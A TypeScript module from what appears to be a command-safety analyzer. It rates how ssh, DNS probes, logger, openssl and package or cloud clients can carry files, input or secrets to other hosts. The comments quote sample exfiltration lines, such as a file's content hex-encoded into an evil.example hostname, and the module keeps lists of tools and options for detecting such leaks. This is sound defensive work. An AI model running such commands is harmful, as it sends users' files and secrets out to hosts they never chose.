// What network clients send besides their request: ssh's options that hand
// the other host the agent, the environment or the display; the words a
// probe puts on the wire (a DNS name, a ping pattern, an SNI name) when they
// carry a command's output or a secret; files and input sent as data
// (`dig -f F`, `logger -n H -f F`, `openssl s_client … < F`, `cat F | ssh H`),
// which are judged as `nc HOST < F` is.
import { remoteArchive } from "./archives.js";
import type { TierNumber } from "../../../shared/tier.js";
import type { Analysis } from "../analyzers.js";
import type { StdinSource, Word } from "../types.js";
import { firstOperand } from "../unwrap.js";
import { commandOutput } from "../command-output.js";
import { sentCarry, STDIN_NAME } from "./http.js";

/** An upstream or input document that is not literal text: what it holds is sent. */
export function inputSent(stdin: StdinSource | null): string | null {
  if (stdin === null || !stdin.dynamic) return null;
  if (stdin.kind === "pipe" && stdin.text === null) return "the output of the command before the pipe";
  // A document, or what echo/printf writes: the output of a command in it, or in a variable it expands.
  const out =
    stdin.text === null
      ? null
      : commandOutput({
          text: stdin.text,
          dynamic: true,
          glob: false,
          confusable: false,
          ...(stdin.origins ? { origins: stdin.origins } : {}),
        });
  return out === null ? null : `the output of ${out} in ${stdin.kind === "pipe" ? "what it is piped" : "its input document"}`;
}

export function inputUpload(tool: string, what: string): Analysis {
  return {
    tier: 3,
    rule: "analysis:net-input",
    reason: `${tool} sends its input (${what}) to another system, as nc HOST does`,
    kind: "floor",
  };
}

export const SSH_VALUES = new Set([
  "-p",
  "-i",
  "-l",
  "-o",
  "-F",
  "-J",
  "-L",
  "-R",
  "-D",
  "-W",
  "-b",
  "-c",
  "-E",
  "-e",
  "-m",
  "-O",
  "-Q",
  "-S",
  "-w",
  "-B",
  "-I",
]);

/** The index of ssh's destination (its first operand). */
export function sshDestination(args: readonly Word[]): number {
  return firstOperand(args, SSH_VALUES);
}

// ssh's letters that take a value (the rest of a bundle, or the next word).
const SSH_VALUE_LETTERS = "BbcDEeFIiJLlmOopQRSWw";
// -o keys whose value is a local file or socket, not text sent to the other host.
const SSH_LOCAL_KEYS =
  /^(userknownhostsfile|globalknownhostsfile|identityfile|certificatefile|controlpath|identityagent|revokedhostkeys|xauthlocation|securitykeyprovider|pkcs11provider|include)$/;

export interface SshOptions {
  letters: Set<string>;
  /** Option values by letter, in order (`-o` values as written). */
  values: [string, Word][];
  /** `-o` keys (lower case) and their values. */
  config: [string, string, Word][];
}

/** ssh's options up to the destination (args[at]): bundles split, `-oKey=V` and `-o 'Key V'` read. */
export function sshOptions(args: readonly Word[], at: number): SshOptions {
  const out: SshOptions = { letters: new Set(), values: [], config: [] };
  for (let i = 0; i < at; i++) {
    const w = args[i] as Word;
    const t = w.text;
    if (!t.startsWith("-") || t === "--" || w.dynamic) continue;
    for (let k = 1; k < t.length; k++) {
      const c = t[k] as string;
      out.letters.add(c);
      if (!SSH_VALUE_LETTERS.includes(c)) continue;
      const value = k + 1 < t.length ? { ...w, text: t.slice(k + 1) } : args[i + 1];
      if (k + 1 >= t.length) i++;
      if (value) {
        out.values.push([c, value]);
        const m = c === "o" ? /^\s*([A-Za-z0-9]+)\s*(?:=|\s)\s*(.*)$/s.exec(value.text) : null;
        if (m) out.config.push([(m[1] as string).toLowerCase(), m[2] as string, value]);
      }
      break;
    }
  }
  return out;
}

const SSH_SECRET_PASSING = /^(sendenv|setenv)$/;
const SSH_FORWARDS = /^(forwardagent|forwardx11|forwardx11trusted|localforward|remoteforward|dynamicforward|tunnel|tunneldevice)$/;

/**
 * What an ssh command hands the other host besides its command line: the
 * agent (`-A`, ForwardAgent: the other side signs with every key in it), the
 * display (-X/-Y), local variables (SendEnv, SetEnv), a command's output or a
 * secret-named variable expanded into the words it sends (the command line,
 * the login name, the host's name), and its input. Null when none.
 */
export function sshSends(args: readonly Word[], at: number, stdin: StdinSource | null): { tier: TierNumber; reason: string } | null {
  const o = sshOptions(args, at);
  const sent: Word[] = [...args.slice(at)];
  for (const [c, v] of o.values) if ("lJWpR".includes(c)) sent.push(v);
  let worst: { tier: TierNumber; reason: string } | null = null;
  const raise = (tier: TierNumber, reason: string) => {
    if (worst === null || tier > worst.tier) worst = { tier, reason };
  };
  for (const [key, value, w] of o.config) {
    if (!SSH_LOCAL_KEYS.test(key)) sent.push(w);
    if (/^(pkcs11provider|securitykeyprovider|include)$/.test(key))
      raise(2, `-o ${w.text} loads a library or a config file (whose options may run commands)`);
    else if (SSH_SECRET_PASSING.test(key)) raise(2, `${key === "sendenv" ? "SendEnv" : "SetEnv"} sends local variables to the other host`);
    else if (SSH_FORWARDS.test(key) && !/^\s*(no|false)\s*$/i.test(value))
      raise(2, `-o ${w.text} forwards the agent, the display or a port to the other host`);
  }
  if (o.letters.has("A")) raise(2, "-A forwards the ssh agent: the other host can sign in with every key it holds");
  if (o.letters.has("X") || o.letters.has("Y")) raise(2, "forwards the X display: the other host can read the screen and keystrokes");
  const carried = sentCarry(sent, "the words ssh sends (command line, login, host)");
  if (carried) raise(carried.tier, carried.reason);
  const input = o.letters.has("n") || o.letters.has("f") || o.letters.has("N") ? null : inputSent(stdin);
  if (input !== null) raise(3, `sends its input (${input}) to the other host, as nc HOST does`);
  return worst;
}

const PROBES = new Set([
  "ping",
  "ping6",
  "dig",
  "host",
  "nslookup",
  "drill",
  "delv",
  "whois",
  "traceroute",
  "traceroute6",
  "tracepath",
  "mtr",
  "arping",
  "fping",
  "httping",
  "ssh-keyscan",
  "nc",
  "ncat",
  "netcat",
  // Resolver front ends (review 27): `getent hosts NAME` and `resolvectl query NAME` send NAME to the DNS servers as
  // dig does (`getent ahosts "x.$(cat a.txt).example"` was tier 0); getent's other databases may ask LDAP or NIS.
  "getent",
  "resolvectl",
  "systemd-resolve",
]);

// logger's options that take a value (a short one: the rest of its bundle, or the next word).
const LOGGER_VALUE_LETTERS = "fnPptuS";
const LOGGER_LONG_VALUES = new Set([
  "--file",
  "--server",
  "--port",
  "--priority",
  "--tag",
  "--socket",
  "--size",
  "--sd-id",
  "--sd-param",
  "--msgid",
]);

/**
 * logger's words: whether it sends to the network (`-n HOST`, `--server`,
 * `--tcp`/`-T`, `--udp`/`-d`), the file it sends (-f), and its message.
 */
function loggerArgs(args: readonly Word[]): { remote: boolean; file: Word | null; message: Word[] } {
  const out: { remote: boolean; file: Word | null; message: Word[] } = { remote: false, file: null, message: [] };
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    const t = w.text;
    if (t === "--") {
      out.message.push(...args.slice(i + 1));
      break;
    }
    if (w.dynamic || !t.startsWith("-") || t === "-") {
      out.message.push(w);
      continue;
    }
    if (t.startsWith("--")) {
      const eq = t.indexOf("=");
      const name = eq > 0 ? t.slice(0, eq) : t;
      const value = eq > 0 ? { ...w, text: t.slice(eq + 1) } : LOGGER_LONG_VALUES.has(name) ? (args[++i] ?? null) : null;
      if (/^--(server|tcp|udp)$/.test(name)) out.remote = true;
      if (name === "--file" && value) out.file = value;
      continue;
    }
    for (let k = 1; k < t.length; k++) {
      const c = t[k] as string;
      if (c === "T" || c === "d") out.remote = true;
      if (!LOGGER_VALUE_LETTERS.includes(c)) continue;
      const value = k + 1 < t.length ? { ...w, text: t.slice(k + 1) } : (args[++i] ?? null);
      if (c === "n") out.remote = true;
      if (c === "f" && value) out.file = value;
      break;
    }
  }
  return out;
}

function logger(args: readonly Word[], stdin: StdinSource | null): Analysis | null {
  const l = loggerArgs(args);
  if (!l.remote) return null;
  if (l.file)
    return {
      tier: 3,
      rule: "analysis:net-upload",
      reason: `logger sends ${l.file.text} line by line to a remote syslog server`,
      kind: "floor",
    };
  if (l.message.length === 0) {
    const input = inputSent(stdin);
    return input === null ? null : inputUpload("logger", input);
  }
  return sentCarry(l.message, "a syslog message to a remote server");
}

/** The words a probe puts on the wire; files whose lines it sends (`dig -f F`, `fping -f F`). */
function probe(name: string, args: readonly Word[]): Analysis | null {
  if (name === "dig" || name === "drill" || name === "delv" || name === "fping") {
    const at = args.findIndex(
      (w) => /^-[a-zA-Z]*f/.test(w.text) && !w.dynamic && (name !== "fping" || w.text === "-f" || /^-f./.test(w.text)),
    );
    if (at >= 0) {
      const t = (args[at] as Word).text;
      const k = t.indexOf("f");
      const file = k + 1 < t.length ? t.slice(k + 1) : (args[at + 1]?.text ?? "-");
      return {
        tier: 3,
        rule: "analysis:net-upload",
        reason: `${name} -f sends every line of ${file} as a query (a file's content to the resolver and the name's servers)`,
        kind: "floor",
      };
    }
  }
  const list = name === "ssh-keyscan" ? keyscanList(args) : null;
  if (list !== null)
    return {
      tier: 3,
      rule: "analysis:net-upload",
      reason: `ssh-keyscan -f resolves and connects to every line of ${list} (a file's content to the resolver and the name's servers, as dig -f)`,
      kind: "floor",
    };
  if (!args.some((w) => w.dynamic)) return null;
  return sentCarry(args, `what ${name} sends (a name, a pattern)`);
}

/**
 * The file whose lines `ssh-keyscan -f FILE` takes as hosts (`-` its input; bundled `-Hf F`, glued `-fF`),
 * or null. Review 31: `ssh-keyscan -f notes.md` was tier 0 while `dig -f notes.md` was 3.
 */
function keyscanList(args: readonly Word[]): string | null {
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    if (w.text === "--") return null;
    // The letters before f take no value (-4 -6 -c -D -H -v); -p -T -t -O take one, so an f after them is that value.
    const m = /^-[46cDHv]*f(.*)$/s.exec(w.text);
    if (m && !w.dynamic) return m[1] || (args[i + 1]?.text ?? "-");
    if (/^-[46cDHv]*[pTtO]$/.test(w.text)) i++;
  }
  return null;
}

/** `openssl s_client`: its input goes over the connection; the host and SNI names are sent. */
function sClient(args: readonly Word[], stdin: StdinSource | null): Analysis | null {
  if (!/^s_(client|time)$/.test(args[0]?.text ?? "")) return null;
  const carried = args.some((w) => w.dynamic) ? sentCarry(args.slice(1), "the host or server name openssl connects to") : null;
  if (carried?.tier === 3) return carried;
  const input = inputSent(stdin);
  return input !== null ? inputUpload("openssl s_client", input) : carried;
}

/** The network clients' analysis (null for other programs). */
export function networkAnalysis(name: string, args: readonly Word[], stdin: StdinSource | null): Analysis | null {
  if (name === "logger") return logger(args, stdin);
  if (name === "openssl") return sClient(args, stdin);
  if (name === "nslookup" && nslookupReadsInput(args)) {
    const input = inputSent(stdin);
    if (input !== null) return inputUpload("nslookup", input);
  }
  if (PROBES.has(name)) return probe(name, args);
  if (name === "tar" || name === "cpio") {
    const remote = remoteArchive(name, args);
    return remote?.dynamic
      ? sentCarry([remote], `the remote archive's name ${name} sends to the host it names (through rsh or ssh)`)
      : null;
  }
  return null;
}

/**
 * Clients that contact what their arguments name, besides those with an
 * analysis of their own (curl, wget, httpie, ffmpeg, git, ssh, the probes):
 * every argument of a fetcher or browser; the URLs (`s3://…` too) and the
 * host, registry or endpoint options of package, database and cloud clients
 * (a package name or a query is not sent anywhere a command names).
 */
const FETCHERS = new Set([
  "aria2c",
  "yt-dlp",
  "youtube-dl",
  "lynx",
  "w3m",
  "links",
  "elinks",
  "svn",
  "hg",
  "xdg-open",
  "gio",
  "sensible-browser",
  "firefox",
  "chromium",
  "google-chrome",
]);
const CONTACTS = new Set([
  "npm",
  "pnpm",
  "yarn",
  "npx",
  "pip",
  "pip3",
  "uv",
  "cargo",
  "gem",
  "bundle",
  "composer",
  "psql",
  "mysql",
  "mariadb",
  "redis-cli",
  "valkey-cli",
  "mongosh",
  "mongo",
  "aws",
  "gsutil",
  "gcloud",
  "az",
  "gh",
  // Review 31: charts, kustomizations and schemas fetched by URL (`helm show values oci://H/$(cat f)`,
  // `kustomize build https://H/…`, `xmllint --dtdvalid https://H/…`) were tier 0.
  "helm",
  "kustomize",
  "xmllint",
  "docker",
  "podman",
  "conda",
  "mamba",
  "micromamba",
]);

/**
 * Package lookups whose operands are sent to the index or registry in the
 * request's path (`pip index versions NAME` asks `INDEX/simple/NAME/`, `npm
 * view @x/NAME` asks `REGISTRY/@x%2fNAME`): a name computed from a file or a
 * secret leaves the machine (round 20).
 */
const LOOKUP: Readonly<Record<string, RegExp>> = {
  pip: /^(index|download|search)$/,
  pip3: /^(index|download|search)$/,
  npm: /^(view|v|info|show|search|s|se|find|docs|home|repo|bugs|outdated)$/,
  pnpm: /^(view|info|show|search|outdated)$/,
  yarn: /^(info|view|npm|search|outdated)$/,
  conda: /^(search|install|create)$/,
  mamba: /^(search|install|create|repoquery)$/,
  micromamba: /^(search|install|create|repoquery)$/,
  gem: /^(search|info|fetch|list)$/,
  cargo: /^(search|info)$/,
};

/** Whether this package client's subcommand (its first operand) sends its operands to the index. */
function lookup(name: string, args: readonly Word[]): boolean {
  const sub = args.find((w) => !w.text.startsWith("-"));
  return sub !== undefined && !sub.dynamic && (LOOKUP[name]?.test(sub.text) ?? false);
}
/** A URL (`scheme://…`), or the value of an option naming a host or registry (`-h H`, `--host=H`, `--registry URL`, `--index-url`). */
const CONTACT_OPTION =
  /^(-h|--host|--hostname|--registry|--index-url|--extra-index-url|--source|--uri|--url|--endpoint-url|-i|-c|--channel)$/;

const SCHEME_URL = /^[a-z][a-z0-9+.-]*:\/\//i;

/**
 * `docker manifest inspect REF`, `docker search TERM` (podman's too): every
 * operand goes to a registry, and an image reference names its registry's
 * host (`$(xxd -p f).evil.example/x:1`), so none of them is data kept here.
 */
function registryImages(name: string, args: readonly Word[]): boolean {
  if (name !== "docker" && name !== "podman") return false;
  const words = args.filter((w) => w.dynamic || !w.text.startsWith("-")).map((w) => (w.dynamic ? "" : w.text));
  return words[0] === "search" || (words[0] === "manifest" && words[1] === "inspect");
}

/** What a fetcher's, or a package or database client's, words carry to the places they name (sentCarry), or null. */
export function contactsCarry(name: string, args: readonly Word[]): Analysis | null {
  const fetcher = FETCHERS.has(name);
  if (!(fetcher || CONTACTS.has(name)) || !args.some((w) => w.dynamic)) return null;
  if (name === "gh") return sentCarry(ghSent(args), "what gh sends to the forge (an endpoint, a query, a field)");
  const sent: Word[] = [];
  const images = registryImages(name, args) || lookup(name, args);
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    if (!w.dynamic && w.text.startsWith("-")) {
      const eq = w.text.indexOf("=");
      const opt = eq > 0 ? w.text.slice(0, eq) : w.text;
      if (CONTACT_OPTION.test(opt)) {
        const value = eq > 0 ? { ...w, text: w.text.slice(eq + 1) } : args[++i];
        if (value) sent.push(value);
      } else if (eq > 0 && SCHEME_URL.test(w.text.slice(eq + 1))) sent.push({ ...w, text: w.text.slice(eq + 1) });
      continue;
    }
    if (fetcher || images || SCHEME_URL.test(w.text)) sent.push(w);
  }
  return sentCarry(sent, `what ${name} contacts (a URL, a host)`);
}

/** A word whose every substitution is gh's view of the forge, nothing else computed in it. */
const FORGE_ANSWER = /^(?:[^$`]|\$\(gh (?:pr|issue|run|release|repo) (?:view|list|status)(?: [\w.=-]+)*\))*$/;

/** gh's options whose value stays here (output filters and templates). */
const GH_LOCAL = /^(?:-q|--jq|-t|--template)$/;

/**
 * Every word of a gh command goes to the forge — the API endpoint (`gh api /repos/$(cat notes.md)` sends the
 * file's content in the path), a search query, a field, a title — but the output filters and templates.
 */
function ghSent(args: readonly Word[]): Word[] {
  const sent: Word[] = [];
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    // The forge's own answer sent back to it (`gh api "repos/o/r/pulls/$(gh pr view --json number -q .number)"`; gh
    // sends a full URL wherever it points, so not that).
    if (w.dynamic && !w.origins && !w.text.includes("://") && FORGE_ANSWER.test(w.text)) continue;
    const opt = w.dynamic ? "" : w.text.replace(/=.*$/s, "");
    if (GH_LOCAL.test(opt)) {
      if (opt === w.text) i++;
      continue;
    }
    sent.push(w);
  }
  return sent;
}

/** `wget -i -` (`--input-file=-`, `-i /dev/stdin`): the URLs it requests are its input's lines. */
function wgetReadsInput(args: readonly Word[]): boolean {
  return args.some((w, i) => {
    if (w.dynamic) return false;
    const value = /^(-i|--input-file)$/.test(w.text) ? args[i + 1]?.text : /^(?:-i|--input-file=)(.+)$/.exec(w.text)?.[1];
    return value !== undefined && STDIN_NAME.test(value);
  });
}

/** Programs that send a file given as their input (`< F`) to another system, with the reason; null for others. */
export function sendsRedirectedInput(name: string, args: readonly Word[]): string | null {
  if (name === "openssl")
    return /^s_(client|time)$/.test(args[0]?.text ?? "") ? "openssl s_client sends its input over the connection" : null;
  if (name === "logger") {
    const l = loggerArgs(args);
    return l.remote && l.file === null && l.message.length === 0 ? "logger sends its input to a remote syslog server" : null;
  }
  if (name === "ssh") {
    const o = sshOptions(args, sshDestination(args));
    return o.letters.has("n") || o.letters.has("f") || o.letters.has("N") || o.letters.has("G")
      ? null
      : "ssh sends its input to the other host";
  }
  if (name === "nslookup") return nslookupReadsInput(args) ? "nslookup sends every line of its input as a query" : null;
  if (name === "wget") return wgetReadsInput(args) ? "wget -i - sends every line of its input as a URL" : null;
  if (name === "http" || name === "https" || name === "xh" || name === "xhs")
    return args.some((w) => w.text === "-I" || w.text === "--ignore-stdin") ? null : `${name} sends its input as the request body`;
  return null;
}

/**
 * nslookup's interactive mode: no name operand (none at all, or `-` first,
 * then at most a server) — it reads its queries from its input and sends
 * each line to the resolver. Options are `-x`/`-x=v` words.
 */
function nslookupReadsInput(args: readonly Word[]): boolean {
  const operands = args.filter((w) => w.dynamic || !w.text.startsWith("-") || w.text === "-");
  if (operands.length === 0) return true;
  const first = operands[0] as Word;
  return !first.dynamic && first.text === "-";
}
